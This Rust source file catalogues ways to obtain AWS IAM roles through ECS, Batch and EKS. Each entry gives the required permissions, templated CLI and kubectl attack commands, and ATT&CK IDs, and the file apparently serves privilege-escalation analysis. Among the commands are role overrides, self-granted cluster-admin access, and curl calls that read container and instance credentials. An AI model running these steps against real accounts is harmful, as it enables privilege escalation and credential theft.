//! Methods over containers in the cloud: ECS, Batch and EKS.

use super::{ECS_TASKS, Method, On, PASS, Service, Thing, Way, need, row, service};

const TASKS: &[Service] = &[ECS_TASKS];
/// The role of a job is a task's; some roles trust Batch itself.
///
/// What Batch tells IAM of the service to which the role goes is documented nowhere: a condition may name either.
const JOBS: &[Service] = &[
    ECS_TASKS,
    service("batch.amazonaws.com"),
    Service { passed_to: "batch.amazonaws.com", ..ECS_TASKS },
    Service { passed_to: "ecs-tasks.amazonaws.com", ..service("batch.amazonaws.com") },
];

const DEFINITION: On = On::New("arn:aws:ecs:{region}:{account}:task-definition/{name}:1");
const CLUSTER: On = On::New("arn:aws:ecs:{region}:{account}:cluster/{name}");
const SERVICE: On = On::New("arn:aws:ecs:{region}:{account}:service/{name}/{name}");
const JOB_DEFINITION: On = On::New("arn:aws:batch:{region}:{account}:job-definition/{name}:1");
const COMPUTE: On = On::New("arn:aws:batch:{region}:{account}:compute-environment/{name}");
const JOB_QUEUE: On = On::New("arn:aws:batch:{region}:{account}:job-queue/{name}");

const ACCESS_ENTRY: &str = "arn:aws:eks:{region}:{account}:access-entry/{name}/{name}/{account}/{name}/{name}";

const CREATE_CLUSTER: &str = "aws ecs create-cluster --cluster-name x";
const REGISTER: &str = "aws ecs register-task-definition --family x --task-role-arn {role} --network-mode awsvpc --requires-compatibilities FARGATE --cpu 256 --memory 512 --container-definitions '[{\"name\":\"x\",\"image\":\"…\",\"command\":[…]}]'";

/// The rows.
pub(super) static METHODS: &[Method] = &[
    row(
        "ecs-001",
        "makes an ECS cluster and a service whose tasks have the role",
        Way::Pass(TASKS),
        &[
            PASS,
            need("ecs:CreateCluster", CLUSTER),
            need("ecs:RegisterTaskDefinition", DEFINITION),
            need("ecs:CreateService", SERVICE),
        ],
        &[CREATE_CLUSTER, REGISTER, "aws ecs create-service --cluster x --service-name x --task-definition x --desired-count 1 --launch-type FARGATE --network-configuration …"],
        &["T1610"],
    ),
    row(
        "ecs-002",
        "makes an ECS cluster and runs a task with the role",
        Way::Pass(TASKS),
        &[
            PASS,
            need("ecs:CreateCluster", CLUSTER),
            need("ecs:RegisterTaskDefinition", DEFINITION),
            need("ecs:RunTask", DEFINITION),
        ],
        &[CREATE_CLUSTER, REGISTER, "aws ecs run-task --cluster x --task-definition x --launch-type FARGATE --network-configuration …"],
        &["T1610"],
    ),
    row(
        "ecs-003",
        "makes an ECS service whose tasks have the role",
        Way::PassInto(Thing::EcsCluster, TASKS),
        &[PASS, need("ecs:RegisterTaskDefinition", DEFINITION), need("ecs:CreateService", SERVICE)],
        &[REGISTER, "aws ecs create-service --cluster {thing-name} --service-name x --task-definition x --desired-count 1 --launch-type FARGATE --network-configuration …"],
        &["T1610"],
    ),
    row(
        "ecs-004",
        "runs an ECS task with the role",
        Way::PassInto(Thing::EcsCluster, TASKS),
        &[PASS, need("ecs:RegisterTaskDefinition", DEFINITION), need("ecs:RunTask", DEFINITION)],
        &[REGISTER, "aws ecs run-task --cluster {thing-name} --task-definition x --launch-type FARGATE --network-configuration …"],
        &["T1610"],
    ),
    row(
        "ecs-005",
        "starts an ECS task with the role on a container instance",
        Way::PassInto(Thing::EcsContainerInstance, TASKS),
        &[PASS, need("ecs:RegisterTaskDefinition", DEFINITION), need("ecs:StartTask", DEFINITION)],
        &["aws ecs register-task-definition --family x --task-role-arn {role} --container-definitions '[{\"name\":\"x\",\"image\":\"…\",\"memory\":512,\"command\":[…]}]'", "aws ecs start-task --cluster … --task-definition x --container-instances {thing}"],
        &["T1610"],
    ),
    row(
        "ecs-006",
        "runs a command in a running ECS task that has the role",
        Way::Existing(Thing::EcsTask),
        &[need("ecs:ExecuteCommand", On::Thing), need("ecs:DescribeTasks", On::Thing)],
        &[
            "aws ecs execute-command --cluster … --task {thing} --interactive --command /bin/sh",
            "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        ],
        &["T1609", "T1552.007"],
    ),
    row(
        "ecs-007",
        "makes a machine of its own a container instance and starts an existing ECS task there, with the role in place of its own",
        Way::PassInto(Thing::EcsTaskDefinition, TASKS),
        &[PASS, need("ecs:RegisterContainerInstance", CLUSTER), need("ecs:StartTask", On::Thing)],
        &[
            "aws ecs register-container-instance --cluster … --instance-identity-document \"$(curl -s http://169.254.169.254/latest/dynamic/instance-identity/document)\" --instance-identity-document-signature … --total-resources …",
            "aws ecs start-task --cluster … --task-definition {thing} --container-instances … --overrides '{\"taskRoleArn\":\"{role}\",\"containerOverrides\":[{\"name\":\"…\",\"command\":[…]}]}'",
        ],
        &["T1610"],
    )
    .also(&["an ECS cluster is there", "an instance of the account on which the attacker runs commands"]),
    row(
        "ecs-008",
        "runs an ECS task from an existing definition, with the role in place of its own",
        Way::PassInto(Thing::EcsTaskDefinition, TASKS),
        &[PASS, need("ecs:RunTask", On::Thing)],
        &["aws ecs run-task --cluster … --task-definition {thing} --launch-type FARGATE --network-configuration … --overrides '{\"taskRoleArn\":\"{role}\",\"containerOverrides\":[{\"name\":\"…\",\"command\":[…]}]}'"],
        &["T1610"],
    )
    .also(&["an ECS cluster is there"]),
    row(
        "ecs-009",
        "starts an ECS task from an existing definition on a container instance, with the role in place of its own",
        Way::PassInto(Thing::EcsTaskDefinition, TASKS),
        &[PASS, need("ecs:StartTask", On::Thing)],
        &["aws ecs start-task --cluster … --task-definition {thing} --container-instances … --overrides '{\"taskRoleArn\":\"{role}\",\"containerOverrides\":[{\"name\":\"…\",\"command\":[…]}]}'"],
        &["T1610"],
    )
    .also(&["an ECS cluster with a container instance is there"]),
    row(
        "batch-001",
        "defines a Batch job with the role and submits it",
        Way::PassInto(Thing::BatchJobQueue, JOBS),
        &[PASS, need("batch:RegisterJobDefinition", JOB_DEFINITION), need("batch:SubmitJob", JOB_DEFINITION), need("batch:SubmitJob", JOB_QUEUE)],
        &["aws batch register-job-definition --job-definition-name x --type container --container-properties '{\"image\":\"…\",\"jobRoleArn\":\"{role}\",\"command\":[…],…}'", "aws batch submit-job --job-name x --job-queue {thing-name} --job-definition x"],
        &["T1610"],
    ),
    row(
        "batch-002",
        "submits a Batch job that has the role, with a command of its own",
        Way::Existing(Thing::BatchJobDefinition),
        &[need("batch:SubmitJob", On::Thing), need("batch:SubmitJob", JOB_QUEUE)],
        &["aws batch submit-job --job-name x --job-queue … --job-definition {thing} --container-overrides '{\"command\":[…]}'"],
        &["T1610"],
    )
    .also(&["a Batch job queue is there"]),
    row(
        "batch-003",
        "sets Batch up, defines a job with the role and submits it",
        Way::Pass(JOBS),
        &[
            PASS,
            need("batch:CreateComputeEnvironment", COMPUTE),
            need("batch:CreateJobQueue", JOB_QUEUE),
            need("batch:RegisterJobDefinition", JOB_DEFINITION),
            need("batch:SubmitJob", JOB_DEFINITION),
            need("batch:SubmitJob", JOB_QUEUE),
        ],
        &[
            "aws batch create-compute-environment --compute-environment-name x --type MANAGED --compute-resources type=FARGATE,maxvCpus=1,subnets=…,securityGroupIds=…",
            "aws batch create-job-queue --job-queue-name x --priority 1 --compute-environment-order order=1,computeEnvironment=x",
            "aws batch register-job-definition --job-definition-name x --type container --platform-capabilities FARGATE --container-properties '{\"image\":\"…\",\"jobRoleArn\":\"{role}\",\"command\":[…],…}'",
            "aws batch submit-job --job-name x --job-queue x --job-definition x",
        ],
        &["T1610"],
    )
    .also(&["a role that trusts ecs-tasks.amazonaws.com to fetch the image with may be passed, too"]),
    row(
        "kg-eks-access",
        "lets itself into a Kubernetes cluster whose machines or pods have the role, as its administrator",
        Way::Existing(Thing::EksCluster),
        &[need("eks:CreateAccessEntry", On::Thing), need("eks:AssociateAccessPolicy", On::New(ACCESS_ENTRY))],
        &[
            "aws eks create-access-entry --cluster-name {thing-name} --principal-arn {me}",
            "aws eks associate-access-policy --cluster-name {thing-name} --principal-arn {me} --policy-arn arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy --access-scope type=cluster",
            "aws eks update-kubeconfig --name {thing-name}",
            "kubectl run x --image=… --overrides='{\"spec\":{\"hostNetwork\":true}}' -- …  # or in a pod of the service account that has the role",
        ],
        &["T1098", "T1610", "T1552.005"],
    )
    .also(&["the cluster's API can be reached"]),
    row(
        "kg-eks-pod-identity",
        "gives the role to pods of its own in a Kubernetes cluster",
        Way::PassInto(Thing::EksCluster, &[service("pods.eks.amazonaws.com")]),
        &[PASS, need("eks:CreatePodIdentityAssociation", On::Thing)],
        &[
            "aws eks create-pod-identity-association --cluster-name {thing-name} --namespace default --service-account x --role-arn {role}",
            "kubectl run x --image=… --overrides='{\"spec\":{\"serviceAccountName\":\"x\"}}' -- …",
        ],
        &["T1098", "T1610"],
    )
    .also(&["it may start pods in the cluster", "the agent of Pod Identity runs in the cluster"]),
];
